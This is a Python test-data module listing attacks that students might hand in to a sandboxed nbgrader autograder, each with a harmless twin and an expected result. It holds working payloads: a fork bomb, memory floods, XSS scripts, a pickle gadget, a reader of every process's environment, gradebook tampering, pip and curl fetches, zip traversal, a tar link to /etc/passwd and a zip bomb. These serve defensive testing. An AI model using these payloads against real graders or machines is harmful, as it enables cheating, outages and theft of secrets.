"""The attacks as data: what each student hands in, what must come of it, and a harmless twin.

Texts may name places of a ``world.World``: ``@COURSE@``, ``@OUTSIDE@``, ``@PORT@``, ``@MARK@``.
"""

from __future__ import annotations

import os
import socket
import stat
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.attacks import exercise
from tests.attacks.world import SCRIPT, World

Cells = Mapping[str, str]
RIGHT = "++++"
PEER = "honest"  # the student whose work others reach for


def nothing(_: object) -> None:
    """Leave it as it is."""


@dataclass(frozen=True)
class HandedIn:
    """What one student hands in.

    Attributes:
        cells: solution cells that differ from the right ones.
        change: what is done to the notebook then.
        place: what is done to the folder, with the notebook in it.
    """

    cells: Cells = field(default_factory=dict)
    change: Callable[[NotebookNode], object] = nothing
    place: Callable[[Path], object] = nothing


@dataclass(frozen=True)
class Attack:
    """One attack, and the twin that does the harmless thing next to it.

    Attributes:
        number: of the case in docs/security.md.
        name: also the student's.
        about: what this student tries, in a few words.
        attacker: what is handed in.
        twin: what is handed in by somebody who keeps all points.
        outcomes: of the claims, one letter each: + passed, F failed, C crashed, L over a limit,
            - not attempted, x anything but passed; empty where the folder is refused.
        refused: words of the refusal.
        dangerous: whether it can hurt a machine that runs it without a sandbox.
    """

    number: int
    name: str
    about: str
    attacker: HandedIn
    twin: HandedIn
    outcomes: str = RIGHT
    refused: str = ""
    dangerous: bool = False


def python(text: str, wrong: bool = True) -> HandedIn:
    """``text`` at the top of the cell ``add``, whose answer is wrong, or right."""
    answer = "0" if wrong else "a + b"
    return HandedIn({"add": f"{text.strip()}\n\ndef add(a, b):\n    return {answer}"})


def calling(text: str, answer: str = "0") -> HandedIn:
    """``text`` inside of ``add``."""
    body = "\n".join(f"    {line}" for line in text.strip().splitlines())
    return HandedIn({"add": f"def add(a, b):\n{body}\n    return {answer}"})


def changing(change: Callable[[NotebookNode], object], wrong: bool = True) -> HandedIn:
    """A changed notebook with a wrong ``add``, or with the right one."""
    return HandedIn({"add": "def add(a, b):\n    return 0"} if wrong else {}, change)


def placing(place: Callable[[Path], object]) -> HandedIn:
    """Right answers in a folder that is changed."""
    return HandedIn(place=place)


def hand_in(world: World, student: str, work: HandedIn) -> None:
    """Put what a student made into the submitted folder of the attacked course."""
    folder = world.course / "submitted" / student / exercise.NAME
    folder.mkdir(parents=True)
    notebook = exercise.submission({name: world.fill(text) for name, text in work.cells.items()})
    work.change(notebook)
    nbformat.write(notebook, notebook_in(folder))
    work.place(folder)


def notebook_in(folder: Path) -> Path:
    """The notebook in a submitted folder."""
    return folder / f"{exercise.NAME}.ipynb"


# -- what is done to notebooks ----------------------------------------------------------------


def tests_of(notebook: NotebookNode) -> list[NotebookNode]:
    return [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")]


def cell_of(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(
        cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name
    )


def tag_tests(notebook: NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.metadata["tags"] = ["skip-execution"]


def empty_tests(notebook: NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.source = ""


def comment_tests(notebook: NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.source += "\nprint('my own check')"


def raise_points(notebook: NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.metadata.nbgrader.points = 1000
        cell.source = "pass"


def delete_tests(notebook: NotebookNode) -> None:
    notebook.cells = [cell for cell in notebook.cells if cell not in tests_of(notebook)]


def delete_add(notebook: NotebookNode) -> None:
    notebook.cells.remove(cell_of(notebook, "add"))


def move_add(notebook: NotebookNode) -> None:
    """Cut and paste: the cell is still there, at the end."""
    cell = cell_of(notebook, "add")
    notebook.cells.remove(cell)
    notebook.cells.append(cell)


def repeat(name: str, text: str) -> Callable[[NotebookNode], None]:
    """A second cell of the same ``grade_id``."""

    def change(notebook: NotebookNode) -> None:
        first = cell_of(notebook, name)
        second = new_code_cell(text, id="second", metadata=dict(first.metadata))
        notebook.cells.insert(notebook.cells.index(first) + 1, second)

    return change


def grade_add(notebook: NotebookNode) -> None:
    cell_of(notebook, "add").metadata.nbgrader.update(grade=True, points=99, locked=False)


def use_kernel(name: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        spec = {"name": name, "display_name": name, "language": "python"}
        notebook.metadata["kernelspec"] = spec

    return change


def add_markdown(text: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        notebook.cells.append(new_markdown_cell(text, id="mine"))

    return change


def large_output(notebook: NotebookNode) -> None:
    """Saved with five megabytes of output, as a picture in a loop leaves them."""
    output = {"output_type": "stream", "name": "stdout", "text": "0123456789" * 500_000}
    cell_of(notebook, "add").outputs = [NotebookNode(output)]


# -- what is done to folders ------------------------------------------------------------------


def link_to_peer(folder: Path) -> None:
    notebook_in(folder).unlink()
    notebook_in(folder).symlink_to(Path("../..", PEER, exercise.NAME, f"{exercise.NAME}.ipynb"))


def hard_link_to_source(folder: Path) -> None:
    notebook_in(folder).unlink()
    source = folder.parents[2] / "source" / exercise.NAME
    notebook_in(folder).hardlink_to(source / f"{exercise.NAME}.ipynb")


def link_to_source(folder: Path) -> None:
    source = folder.parents[2] / "source" / exercise.NAME
    (folder / "data.txt").symlink_to(source / f"{exercise.NAME}.ipynb")


def pipe_notebook(folder: Path) -> None:
    notebook_in(folder).unlink()
    os.mkfifo(notebook_in(folder))


def pipe_beside(folder: Path) -> None:
    os.mkfifo(folder / "data.txt")


def socket_beside(folder: Path) -> None:
    with socket.socket(socket.AF_UNIX) as sock:
        descriptor = os.open(folder, os.O_DIRECTORY)  # an address is at most 107 bytes long
        sock.bind(f"/proc/self/fd/{descriptor}/data.txt")
        os.close(descriptor)


def device_beside(folder: Path) -> None:
    """/dev/zero; an ordinary user cannot make one, and then cannot attack with one."""
    os.mknod(folder / "data.txt", stat.S_IFCHR | 0o666, os.makedev(1, 5))


def file_beside(folder: Path) -> None:
    (folder / "data.txt").write_text("3")


def nest(folder: Path) -> None:
    notebook_in(folder).write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


def swell(folder: Path) -> None:
    """500 MB, without taking them from the disk."""
    with notebook_in(folder).open("r+b") as file:
        file.truncate(500 << 20)


# -- what is done in cells --------------------------------------------------------------------

STRIP_ASSERTS = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Strip())
"""
KEEP_ASSERTS = STRIP_ASSERTS.replace("ast.copy_location(ast.Pass(), node)", "node")
STRIP_LINES = """
def strip(lines):
    return [line for line in lines if not line.startswith('assert')]
get_ipython().input_transformers_cleanup.append(strip)
"""
READ_HISTORY = """
import re
text = get_ipython().user_ns.get('_ih', [''])[-1]
found = re.search(r'add\\(%d, %d\\) == (-?\\d+)' % (a, b), text)
if found:
    return int(found[1])
"""
FORGE_EXECUTE = """
async def forged(code, silent, *arguments, **options):
    kernel = get_ipython().kernel
    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}
get_ipython().kernel.do_execute = forged
"""
FORGE_SEND = """
session = get_ipython().kernel.session
send = session.send
def forged(stream, message, content=None, *arguments, **options):
    if message == 'error':
        return None
    if isinstance(content, dict) and content.get('status') == 'error':
        content = {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}
    return send(stream, message, content, *arguments, **options)
session.send = forged
"""
ALWAYS_EQUAL = """
class Equal:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
"""
EQUAL_INTEGER = """
class Equal(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
"""
IN_SANDBOX = """
import os
if os.environ.get('HOME') != '/home/student':
    raise RuntimeError('this is no sandbox')
"""
FORKS = f"""{IN_SANDBOX}
import time
for _ in range(5000):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
"""
MEMORY_FILE = f"""{IN_SANDBOX}
file = os.memfd_create('hog')
for _ in range(24 << 10):
    os.write(file, bytes(1 << 20))
"""
SHARED_MEMORY = f"""{IN_SANDBOX}
import mmap
pages = []
for _ in range(24 << 10):
    pages.append(mmap.mmap(-1, 1 << 20))
    pages[-1].write(bytes([1]) * (1 << 20))
"""
PRINT_FOR_EVER = f"""{IN_SANDBOX}
while True:
    print('x' * 10_000)
"""
DAEMON = """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '60.@MARK@'])
    os._exit(0)
"""
AT_EXIT = """
import atexit
def leave():
    with open('@OUTSIDE@/at_exit', 'w') as file:
        file.write('still here')
atexit.register(leave)
"""
THREAD = """
import threading, time
def stay():
    while True:
        time.sleep(0.01)
threading.Thread(target=stay).start()
"""
JOINED_THREAD = """
import threading
thread = threading.Thread(target=print)
thread.start()
thread.join()
"""
ASK_OUTSIDE = """
from urllib.request import urlopen
return int(urlopen(f'http://127.0.0.1:@PORT@/{a}/{b}', timeout=2).read())
"""
PIP = """
import subprocess, sys
subprocess.run([sys.executable, '-m', 'pip', 'download', '--retries=0', '--timeout=2', '--no-deps',
                '--index-url=http://127.0.0.1:@PORT@/', '--dest=/tmp', 'helpful'], timeout=60)
subprocess.run('curl --silent --max-time 2 http://127.0.0.1:@PORT@/', shell=True)
"""
READ_SOURCE = """
import glob, re
for place in ('@COURSE@', '../../..', '/proc/1/cwd', '/proc/1/root@COURSE@'):
    for path in glob.glob(f'{place}/source/numbers/*.ipynb'):
        print(open(path).read())
        found = re.search(r'add\\(%d, %d\\) == (-?\\d+)' % (a, b), open(path).read())
        if found:
            return int(found[1])
"""
CHANGE_GRADEBOOK = """
import glob, sqlite3
for path in glob.glob('@COURSE@/gradebook.db') + glob.glob('../../../gradebook.db'):
    with sqlite3.connect(path) as database:
        database.execute('UPDATE grade SET manual_score = 1000')
        database.execute('UPDATE grade_cells SET max_score = 1000')
"""
CHANGE_SOURCE = """
import glob
for path in glob.glob('@COURSE@/source/numbers/*.ipynb'):
    text = open(path).read().replace('assert', '# assert')
    open(path, 'w').write(text)
"""
READ_PROCESSES = """
import glob
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        print(path, open(path, errors='replace').read())
    except OSError:
        pass
"""
SWAP_SOCKETS = """
import os
application = get_ipython().kernel.parent
for name in ('shell', 'iopub', 'stdin', 'control', 'hb'):
    path = f"{application.ip}-{getattr(application, name + '_port')}"
    try:
        os.unlink(path)
        os.symlink('@OUTSIDE@/socket', path)
    except OSError as error:
        print(error)
"""
DROP_CHANNEL = f"""{SWAP_SOCKETS}
thread = application.iopub_thread
thread.schedule(thread.socket.close)
"""


def shown(kind: str, text: str) -> HandedIn:
    """A script in an output, and the right answer."""
    bundle = {kind: text}
    return python(
        f"from IPython.display import display\ndisplay({bundle!r}, raw=True)", wrong=False
    )


PICTURE = """
import base64
from IPython.display import Image, display
display(Image(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg==')))
"""
HTML = f"<script>{SCRIPT}</script><img src='x' onerror='{SCRIPT}'>"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'><script>{SCRIPT}</script></svg>"
LINK = f"[look](javascript:{SCRIPT}) <img src=x onerror={SCRIPT}>"


def doubling(text: str) -> HandedIn:
    """``text`` as the cell ``double``."""
    return HandedIn({"double": text.strip()})


PICKLE = """
class Bomb:
    def __reduce__(self):
        return open, ('@OUTSIDE@/unpickled', 'w')
def double(array):
    return Bomb()
"""
EQUAL_ARRAY = """
import numpy as np
class Equal(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **options):
        if ufunc is np.equal:
            return np.ones(2, bool)
        return getattr(ufunc, method)(*map(np.asarray, inputs), **options)
def double(array):
    return np.zeros(2).view(Equal)
"""
WARNING = """
import sys, warnings, logging
warnings.warn('this will change in a later version')
logging.warning('no GPU found')
print('compiling', file=sys.stderr)
"""

ATTACKS = (
    Attack(
        1,
        "skip_tag",
        "tags the tests so that nbclient skips them",
        changing(tag_tests),
        changing(tag_tests, wrong=False),
        "FF++",
    ),
    Attack(
        2,
        "tests_emptied",
        "empties the test cells",
        changing(empty_tests),
        changing(comment_tests, wrong=False),
        "FF++",
    ),
    Attack(
        2,
        "tests_pricey",
        "makes each test worth 1000 points and empty",
        changing(raise_points),
        changing(raise_points, wrong=False),
        "FF++",
    ),
    Attack(
        3,
        "tests_deleted",
        "deletes the test cells",
        changing(delete_tests),
        changing(delete_tests, wrong=False),
        "FF++",
    ),
    Attack(
        4,
        "solution_deleted",
        "deletes a solution cell",
        changing(delete_add),
        changing(move_add, wrong=False),
        "--++",
    ),
    Attack(
        5,
        "solution_twice",
        "a wrong and a right copy of a solution cell",
        changing(repeat("add", exercise.GOOD["add"])),
        changing(repeat("add", exercise.GOOD["add"]), wrong=False),
        "FF++",
    ),
    Attack(
        5,
        "test_twice",
        "an empty second copy of a test cell",
        changing(repeat("adds", "")),
        changing(repeat("adds", ""), wrong=False),
        "FF++",
    ),
    Attack(
        6,
        "solution_graded",
        "marks a solution cell as a test worth 99 points",
        changing(grade_add),
        changing(grade_add, wrong=False),
        "FF++",
    ),
    Attack(
        7,
        "foreign_kernel",
        "names a kernel that is not the course's",
        changing(use_kernel("forged")),
        changing(use_kernel("python3"), wrong=False),
        "FF++",
    ),
    Attack(
        8,
        "linked_to_peer",
        "the notebook is a symbolic link to a classmate's",
        placing(link_to_peer),
        placing(file_beside),
        "",
        "is a symbolic link",
    ),
    Attack(
        8,
        "linked_to_source",
        "a link beside the notebook to the instructor's",
        placing(link_to_source),
        placing(file_beside),
        "",
        "is a symbolic link",
    ),
    Attack(
        9,
        "piped",
        "the notebook is a named pipe",
        placing(pipe_notebook),
        placing(file_beside),
        "",
        "is a named pipe",
    ),
    Attack(
        9,
        "pipe_beside",
        "a named pipe beside the notebook",
        placing(pipe_beside),
        placing(file_beside),
        "",
        "is a named pipe",
    ),
    Attack(
        9,
        "socket_beside",
        "a socket beside the notebook",
        placing(socket_beside),
        placing(file_beside),
        "",
        "is a socket",
    ),
    Attack(
        9,
        "device_beside",
        "an endless device beside the notebook",
        placing(device_beside),
        placing(file_beside),
        "",
        "is a device",
        dangerous=True,
    ),
    Attack(
        9,
        "hard_linked",
        "the notebook is a hard link to the instructor's",
        placing(hard_link_to_source),
        placing(file_beside),
        "",
        "is a hard link",
    ),
    Attack(
        11,
        "nested",
        "JSON nested 100,000 deep",
        placing(nest),
        HandedIn(change=large_output),
        "",
        "is over a limit",
    ),
    Attack(
        11,
        "swollen",
        "a notebook of 500 MB",
        placing(swell),
        HandedIn(change=large_output),
        "",
        "is over a limit",
    ),
    Attack(
        12,
        "strips_asserts",
        "an AST transformer drops asserts",
        python(STRIP_ASSERTS),
        python(KEEP_ASSERTS, wrong=False),
        "FF++",
    ),
    Attack(
        12,
        "strips_lines",
        "an input transformer drops asserts",
        python(STRIP_LINES),
        python("%time 1 + 1", wrong=False),
        "FF++",
    ),
    Attack(
        12,
        "reads_history",
        "reads the expected value from the input history",
        calling(READ_HISTORY),
        python("print(In[-1][:10])", wrong=False),
        "FF++",
    ),
    Attack(
        13,
        "forged_execute",
        "replaces the kernel's do_execute",
        python(FORGE_EXECUTE),
        python("get_ipython().kernel.do_execute", wrong=False),
        "xxxx",
    ),
    Attack(
        13,
        "forged_send",
        "replaces the session's send: no error is ever reported",
        python(FORGE_SEND),
        python("get_ipython().kernel.session.send", wrong=False),
        "xx++",
    ),
    Attack(
        14,
        "always_equal",
        "returns an object that equals everything",
        HandedIn({"add": ALWAYS_EQUAL + "def add(a, b):\n    return Equal()"}),
        HandedIn({"add": "import numpy as np\ndef add(a, b):\n    return np.int64(a + b)"}),
        "FF++",
    ),
    Attack(
        14,
        "equal_integer",
        "returns an integer that equals everything",
        HandedIn({"add": EQUAL_INTEGER + "def add(a, b):\n    return Equal(7)"}),
        HandedIn({"add": "def add(a, b):\n    return int(a + b)"}),
        "FF++",
    ),
    Attack(
        15,
        "exits",
        "os._exit in the function",
        calling("import os\nos._exit(0)"),
        calling("import os\nos.getpid()", "a + b"),
        "CC++",
    ),
    Attack(
        15,
        "exits_politely",
        "sys.exit in the function",
        calling("import sys\nsys.exit(0)"),
        calling("import sys\ntry:\n    sys.exit(0)\nexcept SystemExit:\n    pass", "a + b"),
        "CC++",
    ),
    Attack(
        15,
        "segfaults",
        "reads address 0",
        calling("import ctypes\nctypes.string_at(0)"),
        calling("import ctypes\nctypes.c_int(a)", "a + b"),
        "CC++",
    ),
    Attack(
        16,
        "spins",
        "a busy loop",
        HandedIn({"total": "def total(numbers):\n    while True:\n        pass"}),
        HandedIn({"total": "def total(numbers):\n    sum(range(10**6))\n    return sum(numbers)"}),
        "++L+",
    ),
    Attack(
        16,
        "sleeps",
        "sleeps for an hour",
        HandedIn({"total": "import time\ndef total(numbers):\n    time.sleep(3600)"}),
        HandedIn(
            {
                "total": "import time\ndef total(numbers):\n"
                "    time.sleep(0.5)\n    return sum(numbers)"
            }
        ),
        "++L+",
    ),
    Attack(
        16,
        "stops",
        "stops its own process",
        HandedIn(
            {
                "total": "import os, signal\ndef total(numbers):\n"
                "    os.kill(os.getpid(), signal.SIGSTOP)\n    return 6"
            }
        ),
        HandedIn(
            {
                "total": "import os, signal\ndef total(numbers):\n"
                "    os.kill(os.getpid(), 0)\n    return sum(numbers)"
            }
        ),
        "++L+",
    ),
    Attack(
        17,
        "forks",
        "a fork bomb",
        calling(FORKS, "a + b"),
        calling("import subprocess\nsubprocess.run(['true'], check=True)", "a + b"),
        "xx??",
        dangerous=True,
    ),
    Attack(
        18,
        "hogs_memory_files",
        "fills a memfd with 24 GB",
        calling(MEMORY_FILE, "a + b"),
        calling("page = bytes(200 << 20)", "a + b"),
        "xx++",
        dangerous=True,
    ),
    Attack(
        18,
        "hogs_shared_memory",
        "fills 24 GB of shared memory",
        calling(SHARED_MEMORY, "a + b"),
        calling("import mmap\nmmap.mmap(-1, 1 << 20).close()", "a + b"),
        "xx++",
        dangerous=True,
    ),
    Attack(
        19,
        "prints_for_ever",
        "an endless print",
        calling(PRINT_FOR_EVER, "a + b"),
        calling("print('x' * 100)", "a + b"),
        "xx++",
        dangerous=True,
    ),
    Attack(
        19,
        "one_long_message",
        "prints 40 MB at once",
        calling("print('x' * 40_000_000)", "a + b"),
        calling("print('x' * 40_000)", "a + b"),
        "xx++",
    ),
    Attack(
        20,
        "daemon",
        "leaves a daemon behind",
        python(DAEMON, wrong=False),
        calling("import subprocess\nsubprocess.run(['sleep', '0.01'])", "a + b"),
    ),
    Attack(
        20,
        "at_exit",
        "writes a file of the machine when Python ends",
        python(AT_EXIT, wrong=False),
        python("import atexit\natexit.register(print)", wrong=False),
    ),
    Attack(
        20,
        "threads",
        "a thread that never ends",
        python(THREAD, wrong=False),
        python(JOINED_THREAD, wrong=False),
    ),
    Attack(
        21,
        "asks_outside",
        "asks a server for the answer",
        calling(ASK_OUTSIDE),
        calling("from urllib.parse import quote\nquote('a b')", "a + b"),
        "CC++",
    ),
    Attack(
        21,
        "installs",
        "pip and curl",
        python(PIP, wrong=False),
        python("import importlib.metadata\nimportlib.metadata.version('pip')", wrong=False),
    ),
    Attack(
        22,
        "reads_source",
        "looks the answer up in the source notebook",
        calling(READ_SOURCE),
        HandedIn(
            {"add": "def add(a, b):\n    return a + b + int(open('data.txt').read()) - 3"},
            place=file_beside,
        ),
        "FF++",
    ),
    Attack(
        22,
        "changes_gradebook",
        "gives the whole class 1000 points a claim",
        python(CHANGE_GRADEBOOK),
        python("import sqlite3\nsqlite3.connect(':memory:').close()", wrong=False),
        "FF++",
    ),
    Attack(
        22,
        "changes_source",
        "comments the source's asserts out",
        python(CHANGE_SOURCE),
        python("open('own.txt', 'w').close()", wrong=False),
        "FF++",
    ),
    Attack(
        22,
        "reads_processes",
        "reads the environment and arguments of all processes",
        python(READ_PROCESSES, wrong=False),
        python("import os\nlen(os.environ)", wrong=False),
    ),
    Attack(
        23,
        "swaps_sockets",
        "puts links in place of the kernel's sockets",
        python(SWAP_SOCKETS, wrong=False),
        python("print(get_ipython().kernel.parent.ip)", wrong=False),
    ),
    Attack(
        23,
        "drops_channel",
        "and closes one, so that the client connects anew",
        python(DROP_CHANNEL),
        python("print(get_ipython().kernel.parent.ip)", wrong=False),
        "xx++",
    ),
    Attack(
        24,
        "html",
        "a script in HTML output",
        shown("text/html", HTML),
        python(PICTURE, wrong=False),
    ),
    Attack(
        24,
        "svg",
        "a script in an SVG picture",
        shown("image/svg+xml", SVG),
        python(PICTURE, wrong=False),
    ),
    Attack(
        24,
        "javascript",
        "JavaScript as output",
        shown("application/javascript", SCRIPT),
        python(f"print({HTML!r})", wrong=False),
    ),
    Attack(
        24,
        "markdown",
        "a script in Markdown, as output and as a cell",
        HandedIn(shown("text/markdown", LINK).cells, add_markdown(LINK + HTML)),
        HandedIn(change=add_markdown("# My notes\n\n*I like sums.*")),
    ),
    Attack(
        25,
        "warns",
        "wrong, with warnings on stderr",
        calling(WARNING),
        calling(WARNING, "a + b"),
        "FF++",
    ),
    Attack(
        26,
        "four_tebibytes",
        "an answer whose shape claims 4 TiB",
        doubling(
            "import numpy as np\ndef double(array):\n"
            "    return np.broadcast_to(np.float64(2), (1 << 39,))"
        ),
        doubling("def double(array):\n    return [2.0 * float(value) for value in array]"),
        "+++F",
    ),
    Attack(
        26,
        "objects",
        "an array of objects that equal everything",
        doubling(
            ALWAYS_EQUAL + "import numpy as np\ndef double(array):\n"
            "    return np.array([Equal(), Equal()], dtype=object)"
        ),
        doubling("def double(array):\n    return (array + array).astype('float32')"),
        "+++F",
    ),
    Attack(
        26,
        "pickle",
        "an answer that does something when it is unpickled",
        doubling(PICKLE),
        doubling("def double(array):\n    return tuple(2 * array)"),
        "+++F",
    ),
    Attack(
        26,
        "not_numbers",
        "NaN in place of numbers",
        doubling("import numpy as np\ndef double(array):\n    return array * np.nan"),
        doubling("import numpy as np\ndef double(array):\n    return np.multiply(2, array)"),
        "+++F",
    ),
    Attack(
        26,
        "equal_array",
        "an array of a class of its own, equal to everything",
        doubling(EQUAL_ARRAY),
        doubling("import numpy as np\ndef double(array):\n    return np.asarray(array) * 2"),
        "+++F",
    ),
)


@dataclass(frozen=True)
class OnExercise:
    """An attack on one of the course's exercises: a sample of tests/submissions, as is its twin.

    Attributes:
        number: of the case in docs/security.md.
        assignment: the exercise.
        name: of the sample, which also says what this student tries.
        twin: of the sample that does the harmless thing next to it.
        loses: the claims that it costs; what was not attempted is left out.
    """

    number: int
    assignment: str
    name: str
    twin: str
    loses: frozenset[str]


def _on(assignment: str, *cases: tuple[int, str, str, str]) -> tuple[OnExercise, ...]:
    """Number, sample, twin and lost claims of each case, as in a table."""
    return tuple(
        OnExercise(number, assignment, name, twin, frozenset(loses.split()))
        for number, name, twin, loses in cases
    )


_VALUES = (
    "convolve_margin convolve_values convolve_clips convolve_weight convolve_any_image "
    "convolve_from_scratch"
)
_TRAINING = "fewer_than_20_epochs reaches_998 generalises"
_HISTORY = "fewer_than_20_epochs reaches_998"
ON_EXERCISES = (
    *_on(
        "cnn_exploration",
        (27, "history_made_up", "reference_on_slice", "trained_five_epochs"),
        (27, "history_of_another_training", "reference_on_slice", "trained_five_epochs"),
        (28, "five_fits_of_five", "reference_on_slice", "trained_five_epochs"),
        (29, "predict_overridden", "fit_with_validation", "cnn_beats_dnn"),
        (30, "trained_on_test_data", "fit_with_validation", "trained_five_epochs cnn_beats_dnn"),
        (31, "cnn_ignores_arguments", "functional", "cnn_any_filters cnn_any_depth"),
        (32, "activations_zero", "other_ways", "activation_values"),
    ),
    *_on(
        "convolution_from_scratch",
        (33, "scipy_wrapped", "windows", "convolve_from_scratch"),
        (33, "tensorflow_wrapped", "windows", "convolve_from_scratch"),
        (33, "numpy_convolve_wrapped", "windows", "convolve_from_scratch"),
        (34, "lookup_table", "windows", _VALUES),
        (35, "input_mutated", "windows", ""),  # judged by the output, which is right
        (36, "uint8_overflow", "windows", "convolve_any_image"),
    ),
    *_on(
        "mnist_998",
        (27, "history_object_made_up", "evaluated_and_predicted", _HISTORY),
        (27, "history_changed", "evaluated_and_predicted", _HISTORY),
        (29, "predict_overridden", "evaluated_and_predicted", "generalises"),
        (37, "weights_in_an_initialiser", "initialiser_of_one_number", _TRAINING),
        (37, "weights_set_before_fit", "fitted_twice", "reaches_998 generalises"),
        (38, "fake_accuracy", "metric_as_an_object", _TRAINING),
        (38, "top_ten_accuracy", "metric_called_acc", _TRAINING),
        (38, "one_class", "scaled_in_the_training", _TRAINING),
        (38, "sample_weight", "scaled_as_tensors", _TRAINING),
        (39, "convolution_as_operation", "functional", f"nothing_else_convolves {_TRAINING}"),
        (39, "lambda_pooling", "functional", f"nothing_else_convolves {_TRAINING}"),
        (39, "time_distributed_convolution", "scaled_by_a_layer", "nothing_else_convolves"),
        (39, "second_convolution_nested", "nested", "one_convolution"),
        (40, "callback_knows_rehearsals", "callback_keeps_weights", "stops_at_target"),
        (40, "callback_reads_the_stack", "callback_keeps_weights", "stops_at_target"),
        (40, "callback_remembers", "callback_keeps_weights", "stops_at_target"),
        (40, "initial_epoch", "fitted_twice", _TRAINING),
        (40, "steps_per_epoch", "learning_rate_reduced", _TRAINING),
    ),
)


@dataclass(frozen=True)
class Archive:
    """An archive to be collected with ``nbgrader zip_collect``; its twin is a plain one.

    Attributes:
        name: of the attack.
        about: what is in it.
        kind: ``zip`` or ``tar.gz``.
        write: makes it, with the text of a notebook for what it pretends to be.
        refused: words of the refusal.
        dangerous: whether unpacking it can hurt a machine.
    """

    name: str
    about: str
    kind: str
    write: Callable[[Path, str], object]
    refused: str
    dangerous: bool = False


def zip_up(path: Path, text: str, name: str = "{}_numbers.ipynb", claims: int = 0) -> None:
    """A zip with one file; ``claims`` is a size that it only pretends to have."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(name.format(path.name.partition(".")[0]), text)
        archive.filelist[0].file_size = claims or archive.filelist[0].file_size


def tar_up(path: Path, text: str, link: str) -> None:
    """A tar.gz with one link, by the name of a notebook."""
    with tarfile.open(path, "w:gz") as archive:
        info = tarfile.TarInfo(f"{path.name.partition('.')[0]}_numbers.ipynb")
        info.type, info.linkname = tarfile.SYMTYPE, link
        archive.addfile(info)


COLLECT = r"--FileNameCollectorPlugin.named_regexp=.*/(?P<student_id>[a-z]+)_(?P<file_id>\w+)"
ARCHIVES = (
    Archive(
        "climbs",
        "a zip whose file leads out of its folder, to a classmate's",
        "zip",
        lambda path, text: zip_up(path, text, f"../{PEER}/{PEER}_numbers.ipynb"),
        "a link or a way out",
    ),
    Archive(
        "links",
        "a tar with a link to a file of the machine",
        "tar.gz",
        lambda path, text: tar_up(path, text, "/etc/passwd"),
        "a link or a way out",
    ),
    Archive(
        "explodes",
        "a zip bomb of 10 GB",
        "zip",
        lambda path, text: zip_up(path, text, claims=10 << 30),
        "more than 1000 MB",
        dangerous=True,
    ),
)


def hand_in_archives(course: Path, archive: Archive) -> None:
    """Put three students' archives where ``nbgrader zip_collect`` looks for them."""
    folder = course / "downloaded" / exercise.NAME / "archive"
    folder.mkdir(parents=True)
    exercise.write_source(course)
    (course / "release" / exercise.NAME).mkdir(parents=True)
    text = nbformat.writes(exercise.submission({}))
    archive.write(folder / f"attacker.{archive.kind}", text)
    for student in (PEER, "twin"):
        zip_up(folder / f"{student}.zip", text)
